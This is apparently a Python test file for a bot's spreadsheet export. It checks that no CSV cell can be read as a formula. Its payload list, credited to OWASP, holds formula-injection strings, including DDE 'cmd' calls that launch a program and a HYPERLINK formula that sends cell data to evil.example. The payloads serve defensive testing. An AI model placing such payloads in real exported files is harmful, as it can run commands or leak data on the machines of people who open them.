"""No cell of a table is a formula, whatever was written, and whatever program reads it."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.render.spreadsheet import harmless, sheet

PAYLOADS = [  # those of OWASP's page on it, and of those who tried what it leaves open
    "=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=HYPERLINK("http://evil.example?x="&A1,"Ice")',
    '","=1+1',
    "ice;=1+1",
    "ice\t=1+1",
    "ice\r\n=1+1",
    "ice|@SUM(1)",
    "ice,+1",
    "\x00=1+1",
    "\u2028=1+1",
]
FORMULA = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def cells(table: bytes, apart: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig")), delimiter=apart) for cell in row
    ]


def formulas(text: str) -> list[str]:
    """What any program would take for one, of a text in a first, a middle and a last cell."""
    row: dict[str, str | float] = {"what": text, "count": 7, "of": text}
    table = sheet({"what": text, "count": "how many", "of": "of"}, [row, row])
    read = (cell for apart in ",;|\t" for cell in cells(table, apart))
    return [cell for cell in read if FORMULA.match(cell.lstrip('"'))]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_owasp_warns_of_is_only_text(payload: str) -> None:
    assert formulas(payload) == []


@given(st.text(alphabet="=+-@\t\r\n\"',;| a1\uff1d", max_size=20))
def test_nothing_that_can_be_made_of_these_signs_is_a_formula(text: str) -> None:
    assert formulas(text) == []


def test_plain_words_and_numbers_stay_as_they_are() -> None:
    for text in ("Ice and heat", "0 to 12 h", "all but under 5", "Anna's – words", "a - b", "x@y"):
        assert harmless(text) == text
    assert sheet({"a": "what", "b": "count"}, [{"a": "Zürich", "b": 2.5}, {"a": "none"}]).decode(
        "utf-8-sig"
    ) == ('"what","count"\r\n"Zürich",2.5\r\n"none",""\r\n')
